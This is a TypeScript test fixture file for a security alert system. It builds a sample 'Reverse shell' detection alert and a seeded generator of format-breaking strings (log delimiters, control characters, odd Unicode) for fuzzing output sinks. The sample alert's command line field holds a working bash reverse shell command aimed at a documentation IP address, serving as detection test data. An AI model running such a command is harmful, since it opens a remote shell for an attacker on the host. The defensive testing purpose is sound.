// Alerts for sink tests: plausible ones, and hostile ones whose free-text fields are random
// mixes of what breaks formats (line breaks, | = ] " \, control characters, non-ASCII, long runs).
import { randomUUID } from 'node:crypto';
import type { Alert } from '../../alerts/alert.ts';

export function sampleAlert(over: Partial<Alert> = {}): Alert {
  return {
    alert_id: 1,
    alert_uuid: randomUUID(),
    rule_id: 'DE-LNX-0001',
    rule_name: 'Reverse shell',
    rule_version: 3,
    severity: 'high',
    attack_ids: ['T1059.004', 'T1071'],
    tags: ['execution', 'command_and_control', 'linux'],
    host: 'web-01',
    summary: 'bash -i with its stdin on a TCP socket',
    dedup_key: 'k1',
    pid: 4242,
    process_name: 'bash',
    executable_path: '/usr/bin/bash',
    command_line: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
    process_start: '2026-03-01T10:00:00.000Z',
    first_seen: '2026-03-01T10:00:05.123Z',
    last_seen: '2026-03-01T10:00:05.123Z',
    occurrences: 1,
    cleared_at: null,
    triage_status: 'open',
    scan_id: 7,
    evidence: { fd0: 'socket:[123]', note: 'a "quoted" ] value' },
    ...over,
  };
}

/** Deterministic PRNG (mulberry32): a failing case can be replayed from its seed. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PIECES = [
  '\n', '\r\n', '\r', '|', '=', ']', '[', '"', '\\', '\\\\', '\\=', '\\|', ' ', '  ', '\t', '\u0000', '\u001b[31m',
  'key=value', ' msg=', ' cs1=', '|CEF:0|', '<13>1 ', '"]', '\\"', 'é', 'ß', '中文', '🦀', '\u202e', '\u200b',
  'a\u0301', '\ud83d', '\udc00', 'x', 'abc', '/usr/bin/', '-', '#012', '%n', '${X}',
];

/** A random hostile string of up to `max` pieces. */
export function hostileString(next: () => number, max = 24): string {
  const n = Math.floor(next() * max);
  let s = '';
  for (let i = 0; i < n; i++) s += PIECES[Math.floor(next() * PIECES.length)]!;
  return s;
}

/** An alert whose text fields are hostile; `big` puts a 64 KiB command line in. */
export function hostileAlert(next: () => number, big = false): Alert {
  const h = () => hostileString(next);
  return sampleAlert({
    rule_name: h() || 'r', summary: h(), process_name: h(), executable_path: h(), host: h() || 'h',
    command_line: big ? `${h()}${'A|=]"\\\n'.repeat(64 * 1024 / 8)}${h()}` : h(),
    evidence: { k: h() },
  });
}
